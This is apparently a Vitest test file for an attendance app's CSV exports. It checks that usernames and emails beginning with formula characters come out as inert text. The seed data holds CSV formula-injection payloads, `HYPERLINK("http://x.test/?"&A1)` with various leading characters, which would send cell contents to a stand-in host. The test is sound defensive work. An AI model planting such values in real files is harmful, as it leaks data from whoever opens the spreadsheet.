import { execFile } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FORMULA_START, parseCsvCells } from '@tests/helpers/csv';
import { MSG } from '@shared/messages';
import { flagBit } from '../attendance/index';
import { insertSession } from '@harness/geofence-sessions';
import { createTestUser, signInTestUser, startTestServer, type TestServer } from '@tests/helpers/test-server';

/**
 * Issue 18, section 6: emails accept formula-looking local parts (`=HYPERLINK("http://x")@x.test` is a valid address)
 * and usernames may start with a formula character. Every CSV the product writes (the admin's detail and summary
 * downloads, `npm run export`) must keep every such cell inert: no cell a spreadsheet reads starts with one.
 */
let srv: TestServer;
let adminToken: string;
const STARTS = ['=', '+', '-', '@', '\t', '\r'];
const HOSTILE = STARTS.map((c) => `${c}HYPERLINK("http://x.test/?"&A1)`);
let teacherId = 0;

beforeAll(async () => {
  srv = await startTestServer();
  adminToken = (await signInTestUser(srv, { role: 'admin' })).token;
  const department = await srv.db.selectFrom('departments').select('id').where('name', '=', 'BCA').executeTakeFirstOrThrow();
  const teacher = await createTestUser(srv.db, { role: 'teacher', department: 'BCA', username: HOSTILE[0], email: `${HOSTILE[0]}@x.test` });
  teacherId = teacher.id;
  const sessionId = await insertSession(srv.db, {
    teacher_id: teacher.id,
    department_id: department.id,
    started_at: '2026-03-02T04:00:00.000Z',
    ends_at: '2026-03-02T05:00:00.000Z',
    ended_at: '2026-03-02T05:00:00.000Z',
  });
  let first = 0;
  for (const [i, name] of HOSTILE.entries()) {
    const student = await createTestUser(srv.db, { role: 'student', department: 'BCA', username: name, email: `${STARTS[i]}s${i}@x.test` });
    first ||= student.id;
    await srv.db
      .insertInto('attendance_records')
      .values({
        session_id: sessionId,
        student_id: student.id,
        status: i % 2 ? 'absent' : 'present',
        marked_at: `2026-03-02T04:1${i}:00.000Z`,
        latitude: -12.5,
        longitude: -0.25,
        radius_m: 50,
        geofencing_status: 'valid',
        face_recognition_status: 'verified',
        manual_override: i % 2,
        // A manual mark names its teacher in "Marked by": the hostile teacher's name lands in one more column.
        marked_by: i % 2 ? teacher.id : null,
        // Issue 19's Flags column names another student: the first hostile name lands in the own marks' Flags cells.
        mark_flags: i % 2 ? 0 : flagBit('same_device'),
        mark_flag_refs: i % 2 ? null : JSON.stringify({ same_device: [first] }),
        updated_at: '2026-03-02T05:00:00.000Z',
      })
      .execute();
  }
});
afterAll(() => srv.close());

const download = async (p: string) => {
  const res = await fetch(`${srv.url}${p}`, { headers: { authorization: `Bearer ${adminToken}` } });
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toContain('text/csv');
  return res.text();
};

/** Every cell is inert, and the hostile names are there, guarded: the test reads what it means to read. */
function expectNeutralised(csv: string, minRows: number) {
  const rows = parseCsvCells(csv);
  expect(rows.length).toBeGreaterThanOrEqual(minRows + 1);
  const cells = rows.flat();
  expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
  for (const name of HOSTILE) expect(cells).toContain(`'${name}`);
}

describe('CSV cells stay inert for formula-looking names and emails', () => {
  it('the detail CSV (every pair, and one pair)', async () => {
    const csv = await download('/api/admin/attendance-details/export.csv');
    expectNeutralised(csv, HOSTILE.length);
    // The Flags cell, before the face check tries.
    expect(parseCsvCells(csv).flatMap((r) => r.slice(-2, -1))).toContain(MSG.markFlags.sameDevice(HOSTILE[0]));
    const one = parseCsvCells(await download(`/api/admin/attendance-details/export.csv?teacher=${teacherId}`));
    expect(one.flat().filter((c) => FORMULA_START.test(c))).toEqual([]);
  });

  it('the summary CSV', async () => {
    expectNeutralised(await download('/api/admin/attendance-summary/export.csv'), HOSTILE.length);
  });

  it('npm run export', async () => {
    const out = path.join(srv.dataDir, 'export.csv');
    const root = path.resolve(import.meta.dirname, '../../../..');
    const env = { ...process.env, DATA_DIR: srv.dataDir, DATABASE_URL: srv.deps.config.databaseUrl ?? '' };
    if (!env.DATABASE_URL) delete (env as Record<string, string | undefined>).DATABASE_URL;
    await promisify(execFile)(process.execPath, ['--import', 'tsx', 'scripts/export.ts', '--out', out], { cwd: root, env });
    expectNeutralised(fs.readFileSync(out, 'utf8'), HOSTILE.length);
  });
});
